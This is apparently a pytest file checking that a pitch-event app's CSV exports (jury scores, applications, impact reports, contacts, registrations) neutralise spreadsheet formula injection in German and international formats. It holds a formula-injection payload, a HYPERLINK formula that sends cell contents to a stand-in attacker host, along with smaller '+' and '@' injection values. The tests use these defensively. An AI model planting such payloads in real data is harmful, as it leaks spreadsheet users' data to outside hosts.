"""Defect 2 of issue 14: every CSV goes through the one writer, so a name someone typed that a spreadsheet would
run as a formula comes out as plain text, in each export, header row included, in both dialects; and German
readers get the German file (";", decimal comma, German headers, BOM) with the international one beside it."""

import csv
import io

import pytest

from pitchday.exports.csv_writer import FORMULA_START
from pitchday.models import Camp, CfpQuestion, Criterion
from pitchday.services.matchmaking import requests as mm
from tests.conftest import create_user

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


def read(response, dialect: str) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Disposition"].startswith("attachment")
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=";" if dialect == "de" else ","))


def assert_neutralised(rows, *, in_header=False):
    """No cell would run as a formula, and the payload is there, made text with a leading apostrophe."""
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'" + PAYLOAD in cells
    if in_header:
        assert "'" + PAYLOAD in rows[0]


def both_dialects(client, url):
    """The German file (the default for German readers) and the international one offered beside it."""
    sep = "&" if "?" in url else "?"
    return read(client.get(url), "de"), read(client.get(f"{url}{sep}format=intl"), "intl")


# ---- jury: scores.csv and rankings.csv --------------------------------------------------------------------------

@pytest.fixture
def jury_event(db, camps):
    from pitchday.models import Score
    from pitchday.services.jury import rubric as jury_rubric
    from tests.jury.conftest import make_event, make_juror, pitches

    event = make_event(camps["essen"])
    jury_rubric.add_default_rubric(event)
    db.session.commit()
    juror = make_juror(event, "jana@example.org", PAYLOAD)
    pitches(event)[0].startup.name = PAYLOAD
    criteria = jury_rubric.criteria_of(event)
    db.session.get(Criterion, criteria[0].id).name = PAYLOAD
    db.session.add_all(Score(event_id=event.id, juror_id=juror.id, application_id=a.id, criterion_id=c.id, value=7)
                       for a in pitches(event) for c in criteria)
    db.session.commit()
    return event


def test_jury_scores_are_neutralised(client, login, organiser, jury_event):
    login(organiser)
    german, international = both_dialects(client, f"/events/{jury_event.id}/jury/results/scores.csv")
    for rows in (german, international):
        assert_neutralised(rows)
        assert rows[0][1] in ("Jurymitglied", "Juror")
        assert sum(1 for r in rows[1:] if r[1] == "'" + PAYLOAD) == 3 * 6  # the juror's name on each score
    assert german[0][:2] == ["Jury-Nr.", "Jurymitglied"] and international[0][:2] == ["Juror no.", "Juror"]


def test_jury_rankings_are_neutralised_with_decimal_commas_for_germans(client, login, organiser, jury_event):
    login(organiser)
    german, international = both_dialects(client, f"/events/{jury_event.id}/jury/results/rankings.csv")
    for rows in (german, international):
        assert_neutralised(rows)
    assert german[0][5] == "Mittelwert" and international[0][5] == "Mean"
    assert german[1][5] == "66,6667" and international[1][5] == "66.6667"  # 7 of 1-10, on a 0-100 scale


def test_the_results_page_offers_the_international_files(client, login, organiser, jury_event):
    login(organiser)
    html = client.get(f"/events/{jury_event.id}/jury/results").get_data(as_text=True)
    assert f"/events/{jury_event.id}/jury/results/scores.csv?format=intl" in html
    assert f"/events/{jury_event.id}/jury/results/rankings.csv?format=intl" in html
    assert "Internationales Format" in html


# ---- applications.csv: startup names, answers and the organisers' question labels (header) -------------------

def test_applications_are_neutralised_header_included(client, login, organiser, db, camps):
    from pitchday.models import Application, ApplicationStatus
    from tests.applications.conftest import make_event, make_startup

    event = make_event(db, camps["essen"])
    question = db.session.scalar(db.select(CfpQuestion).order_by(CfpQuestion.id))
    question.label = PAYLOAD
    startup = make_startup(db, create_user("f@example.org", "Frida"), name="Kohlekraft")
    startup.name = PAYLOAD
    db.session.add(Application(event_id=event.id, startup_id=startup.id, status=ApplicationStatus.SUBMITTED))
    db.session.commit()
    login(organiser)
    german, international = both_dialects(client, f"/events/{event.id}/applications.csv")
    for rows in (german, international):
        assert_neutralised(rows, in_header=True)
        assert rows[1][0] == "'" + PAYLOAD
    assert german[1][1] == "Eingereicht" and international[1][1] == "Submitted"
    page = client.get(f"/events/{event.id}/applications").get_data(as_text=True)
    assert f"/events/{event.id}/applications.csv?format=intl" in page


# ---- the impact report and the follow-up tracks: camp names ------------------------------------------------

@pytest.fixture
def payload_camp(db, camps):
    from tests.matchmaking.conftest import make_event

    camp = db.session.get(Camp, camps["essen"].id)
    camp.name = PAYLOAD
    db.session.commit()
    from datetime import UTC, datetime

    return camp, make_event(db, camp, start=datetime(2025, 5, 14, 12, 0, tzinfo=UTC), title="Spring Pitch Day")


def test_the_impact_report_is_neutralised(client, login, hub_admin, payload_camp):
    login(hub_admin)
    german, international = both_dialects(client, "/impact/report.csv")
    for rows in (german, international):
        assert_neutralised(rows)
    assert german[0][:2] == ["Camp", "Zeitraum"] and international[0][:2] == ["Camp", "Period"]
    assert german[-1][0] == "Gesamt" and international[-1][0] == "Total"
    assert "/impact/report.csv?format=intl" in client.get("/impact/").get_data(as_text=True)


def test_the_tracks_export_is_neutralised(client, login, hub_admin, payload_camp):
    login(hub_admin)
    german, international = both_dialects(client, "/impact/tracks/tracks.csv?year=2025")
    for rows in (german, international):
        assert_neutralised(rows)
    assert german[0][1] == "Quartal" and international[0][1] == "Quarter"
    assert "format=intl" in client.get("/impact/tracks/?year=2025").get_data(as_text=True)


# ---- a startup's contacts after the event: what attendees typed --------------------------------------------

def test_the_contacts_export_is_neutralised(app, client, login, db, payload_camp):
    from tests.matchmaking.conftest import add_pitch, register

    _camp, event = payload_camp
    founder = create_user("founder@example.org", "Fiona")
    startup = add_pitch(db, event, "Alpha", members=[founder])
    attendee = register(db, event, PAYLOAD, organisation="+Evil Corp")
    with app.test_request_context():
        mm.set_profile(attendee, visible=False, share_contact=True)
        mm.request_by_attendee(attendee, startup, reason="@SUM(1)")
        db.session.commit()
    login(founder)
    german, international = both_dialects(client, f"/startups/{startup.id}/events/{event.id}/contacts.csv")
    for rows in (german, international):
        assert_neutralised(rows)
        assert rows[1][1] == "'+Evil Corp" and rows[1][6] == "'@SUM(1)"
    assert german[1][5] == "ja" and international[1][5] == "yes"


# ---- the registrations: the organisers' own question labels head columns -----------------------------------

def test_the_registrations_export_is_neutralised_header_included(client, login, organiser, db, camps):
    from pitchday.models import RegistrationQuestion
    from tests.checkin.conftest import make_event, make_registration

    event = make_event(db, camps["essen"])
    db.session.add(RegistrationQuestion(event_id=event.id, position=1, label=PAYLOAD))
    db.session.commit()
    make_registration(db, event, name=PAYLOAD)
    login(organiser)
    german, international = both_dialects(client, f"/events/{event.id}/registrations/export.csv")
    for rows in (german, international):
        assert_neutralised(rows, in_header=True)
    assert german[0][2] == "Name" and german[1][0] == "Bestätigt"
    assert international[0][0] == "Status" and international[1][0] == "Confirmed"
    page = client.get(f"/events/{event.id}/registrations/").get_data(as_text=True)
    assert "export.csv?format=intl" in page
